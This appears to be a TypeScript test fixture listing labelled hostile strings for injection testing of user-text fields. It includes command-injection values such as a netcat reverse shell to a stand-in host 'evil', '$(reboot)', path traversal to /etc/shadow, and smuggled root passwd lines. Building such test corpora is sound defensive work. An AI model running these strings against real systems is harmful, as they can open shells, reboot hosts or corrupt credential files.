/**
 * Hostile strings for the injection tests: what a careless or malicious answer file, a pasted value
 * or a compromised front end could put into any field that carries user text. Each has a label so a
 * failure names the case rather than printing an unreadable value.
 */

export interface Hostile {
  readonly label: string;
  readonly value: string;
}

const h = (label: string, value: string): Hostile => ({ label, value });

export const HOSTILE: readonly Hostile[] = [
  // Shell metacharacters: harmless as one argv element, fatal inside `sh -c` or a sourced file.
  h('semicolon', 'a;reboot'),
  h('pipe', 'a|nc -e /bin/sh evil 4444'),
  h('and-and', 'a&&reboot'),
  h('command substitution', '$(reboot)'),
  h('substitution without spaces', 'x$(touch${IFS}/tmp/pwned)'),
  h('backticks', '`id`'),
  h('redirect', 'a>/etc/passwd'),
  h('double quote', 'a"b'),
  h('single quote', "o'brien"),
  h('backslash', 'a\\b'),
  h('glob', '*'),
  h('braces', '{a,b}'),
  h('hash comment', 'a#b'),
  h('format string', '%s%n%x'),
  // Line structure and control characters.
  h('newline', 'a\nb'),
  h('carriage return', 'a\rb'),
  h('CRLF with passwd line', 'a\r\nroot::0:0::/root:/bin/sh'),
  h('NUL', 'a\0b'),
  h('tab', 'a\tb'),
  h('escape sequence', 'a\u001b[2Jb'),
  h('vertical tab', 'a\u000bb'),
  h('form feed', 'a\u000cb'),
  h('NEL (C1)', 'a\u0085b'),
  h('DEL', 'a\u007fb'),
  // Paths.
  h('relative traversal', '../../etc/passwd'),
  h('absolute system file', '/etc/passwd'),
  h('traversal under /dev', '/dev/../etc/shadow'),
  h('dot slash', './x'),
  // Options.
  h('short option', '-rf'),
  h('long option', '--privileged'),
  h('long option with value', '--foo=bar'),
  h('single dash', '-'),
  h('double dash', '--'),
  // Size.
  h('overlong (10k)', 'a'.repeat(10_001)),
  h('overlong with separators (12k)', 'ab-'.repeat(4_000)),
  // Unicode.
  h('RTL override', 'admin\u202etxt.exe'),
  h('zero-width joiner', 'a\u200db'),
  h('zero-width space', 'a\u200bb'),
  h('homoglyph (Cyrillic a)', '\u0430dmin'),
  h('combining marks', 'e\u0301\u0301\u0301\u0301'),
  h('lone high surrogate', 'a\ud800'),
  h('lone low surrogate', 'a\udc00b'),
  h('emoji ZWJ sequence', '👩‍💻'),
  h('NBSP', 'a\u00a0b'),
  h('full-width', 'ａｄｍｉｎ'),
  h('line separator U+2028', 'a\u2028b'),
  h('paragraph separator U+2029', 'a\u2029b'),
  h('byte order mark', '\ufeffa'),
  // Empty and blank.
  h('empty', ''),
  h('space', ' '),
  h('tab only', '\t'),
  h('blank lines', '   \n  '),
  // key=value and field separators.
  h('equals', 'a=b'),
  h('two equals', 'a=b=c'),
  h('colon', 'a:b'),
  h('passwd entry', 'x:0:0:root:/root:/bin/sh'),
  h('init override', 'init=/bin/sh'),
  h('unbalanced kernel quote', 'x="y'),
];

/** NUL and everything some reader of a text file takes for the end of a line (Python's splitlines() included). */
const BREAKS = ['\0', '\n', '\r', '\u000b', '\u000c', '\u001c', '\u001d', '\u001e', '\u0085', '\u2028', '\u2029'];
export const breaksLines = (s: string): boolean => BREAKS.some((c) => s.includes(c));
